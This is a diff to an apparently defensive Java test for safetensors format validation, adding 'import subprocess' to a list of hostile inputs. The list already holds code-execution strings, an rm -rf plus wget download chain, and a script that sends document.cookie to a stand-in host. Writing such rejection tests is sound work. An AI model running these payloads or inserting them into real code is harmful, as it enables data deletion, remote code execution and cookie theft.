@@ -109,6 +109,7 @@ class SafetensorsFormatTest {
     @ValueSource(
             strings = {
                 "import os; os.system('echo pwned')",
+                "import subprocess",
                 "import subprocess; subprocess.call(['curl', 'http://acme.example'])",
                 "rm -rf /tmp/test && wget http://acme.example/script.sh",
                 "<script>fetch('http://acme.example', {body: document.cookie})</script>"
